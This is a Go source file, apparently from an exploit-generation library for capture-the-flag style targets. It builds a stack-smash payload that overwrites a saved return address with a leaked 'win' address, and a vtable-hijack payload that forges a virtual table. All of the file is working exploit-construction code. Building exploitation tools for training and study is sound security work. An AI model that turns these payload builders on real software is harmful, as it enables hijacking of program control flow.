package payload

import (
	"fmt"

	"github.com/rs/zerolog"

	"gitlab.com/stephen-fox/pwngen/leak"
)

// Layout constants for the known target builds. Each one encodes
// knowledge of a specific binary's stack frame or object layout;
// rebuilding a target with a different compiler or flags invalidates
// them. The config structs allow overriding them for other builds.
const (
	// FillerByte occupies padding space up to a known offset. Its value
	// is arbitrary as long as it does not itself form a meaningful
	// address.
	FillerByte = 'A'

	// StackSmashReturnOffset is the distance from the start of the
	// overflowed stack buffer to the saved return address in the
	// stack-smash target's frame.
	StackSmashReturnOffset = 32

	// StackSmashPayloadLen is the total stack-smash payload size.
	StackSmashPayloadLen = StackSmashReturnOffset + 8

	// VTableHijackVPtrOffset is the distance from the start of the
	// vcall target's overflow buffer to the vtable pointer slot of
	// the object being overwritten.
	VTableHijackVPtrOffset = 64

	// VTableHijackPayloadLen is the total vcall-hijack payload size.
	VTableHijackPayloadLen = VTableHijackVPtrOffset + 8
)

// StackSmashConfig configures the StackSmash function.
type StackSmashConfig struct {
	// WinAddr is the leaked address of the target's win function.
	// It overwrites the saved return address.
	WinAddr leak.Address

	// OptReturnOffset optionally overrides StackSmashReturnOffset.
	OptReturnOffset int

	// OptFiller optionally overrides FillerByte. A zero value means
	// unset, so a NUL filler cannot be requested this way.
	OptFiller byte

	// OptLogger optionally receives a hexdump of the built payload.
	OptLogger *zerolog.Logger
}

func (o StackSmashConfig) returnOffset() int {
	if o.OptReturnOffset == 0 {
		return StackSmashReturnOffset
	}
	return o.OptReturnOffset
}

func (o StackSmashConfig) filler() byte {
	if o.OptFiller == 0 {
		return FillerByte
	}
	return o.OptFiller
}

func (o StackSmashConfig) validate() error {
	if o.OptReturnOffset < 0 {
		return fmt.Errorf("return offset cannot be negative (got %d)",
			o.OptReturnOffset)
	}

	return nil
}

// StackSmashOrExit calls StackSmash. It calls DefaultExitFn if
// an error occurs.
func StackSmashOrExit(config StackSmashConfig) []byte {
	p, err := StackSmash(config)
	if err != nil {
		DefaultExitFn(fmt.Errorf("failed to build stack-smash payload - %w", err))
	}
	return p
}

// StackSmash builds the return-address overwrite payload: filler bytes
// up to and including the saved-state region of the overflowed frame,
// followed by the win function's address as a little-endian 64-bit
// pointer.
//
// The builder performs no bounds checking against the live target.
// Identical inputs always produce byte-identical payloads.
func StackSmash(config StackSmashConfig) ([]byte, error) {
	err := config.validate()
	if err != nil {
		return nil, err
	}

	return NewBuilder().
		SetLogger(config.OptLogger).
		RepeatByte(config.filler(), config.returnOffset()).
		Uint64(config.WinAddr.Uint64()).
		Build()
}

// VTableHijackConfig configures the VTableHijack function.
//
// The two addresses must be supplied in the order the target leaks
// them: win function first, overflow buffer second. A swapped pair is
// syntactically valid and silently produces a payload that cannot
// redirect the virtual call - there is no way to detect the mistake
// here, so the leak order is trusted as a fixed property of the target.
type VTableHijackConfig struct {
	// WinAddr is the leaked address of the target's win function.
	// It becomes entry zero of the forged vtable at the start of
	// the overflow buffer.
	WinAddr leak.Address

	// BufferAddr is the leaked address of the overflow buffer itself.
	// It overwrites the object's vtable pointer so that virtual
	// dispatch lands in the forged table.
	BufferAddr leak.Address

	// OptVPtrOffset optionally overrides VTableHijackVPtrOffset.
	OptVPtrOffset int

	// OptFiller optionally overrides FillerByte. A zero value means
	// unset, so a NUL filler cannot be requested this way.
	OptFiller byte

	// OptLogger optionally receives a hexdump of the built payload.
	OptLogger *zerolog.Logger
}

func (o VTableHijackConfig) vptrOffset() int {
	if o.OptVPtrOffset == 0 {
		return VTableHijackVPtrOffset
	}
	return o.OptVPtrOffset
}

func (o VTableHijackConfig) filler() byte {
	if o.OptFiller == 0 {
		return FillerByte
	}
	return o.OptFiller
}

func (o VTableHijackConfig) validate() error {
	if o.OptVPtrOffset < 0 {
		return fmt.Errorf("vtable pointer offset cannot be negative (got %d)",
			o.OptVPtrOffset)
	}

	if off := o.vptrOffset(); off < 8 {
		return fmt.Errorf("vtable pointer offset %d leaves no room for the forged table entry",
			off)
	}

	return nil
}

// VTableHijackOrExit calls VTableHijack. It calls DefaultExitFn if
// an error occurs.
func VTableHijackOrExit(config VTableHijackConfig) []byte {
	p, err := VTableHijack(config)
	if err != nil {
		DefaultExitFn(fmt.Errorf("failed to build vtable-hijack payload - %w", err))
	}
	return p
}

// VTableHijack builds the virtual-call hijack payload: a forged
// single-entry vtable (the win address) at the start of the overflow
// buffer, filler up to the object's vtable pointer slot, then the
// buffer's own address to point dispatch back at the forged table.
// Both addresses are encoded as little-endian 64-bit pointers.
//
// Identical inputs always produce byte-identical payloads.
func VTableHijack(config VTableHijackConfig) ([]byte, error) {
	err := config.validate()
	if err != nil {
		return nil, err
	}

	return NewBuilder().
		SetLogger(config.OptLogger).
		Uint64(config.WinAddr.Uint64()).
		RepeatByte(config.filler(), config.vptrOffset()-8).
		Uint64(config.BufferAddr.Uint64()).
		Build()
}
